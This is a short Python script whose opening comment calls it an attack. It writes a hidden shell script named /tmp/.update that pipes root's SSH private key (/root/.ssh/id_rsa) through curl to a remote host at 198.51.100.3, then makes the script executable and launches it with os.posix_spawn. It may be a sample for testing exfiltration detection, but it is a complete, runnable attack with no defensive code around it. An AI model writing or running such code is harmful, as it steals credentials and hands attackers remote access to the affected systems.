# attack: shebang script in /tmp that exfiltrates root's SSH key, started with os.posix_spawn
import os

path = "/tmp/.update"
with open(path, "w") as fh:
    fh.write("#!/bin/sh\ncat /root/.ssh/id_rsa | curl -s -X POST --data-binary @- http://198.51.100.3/k\n")
os.chmod(path, 0o700)
pid = os.posix_spawn(path, [path], dict(os.environ))
os.waitpid(pid, 0)
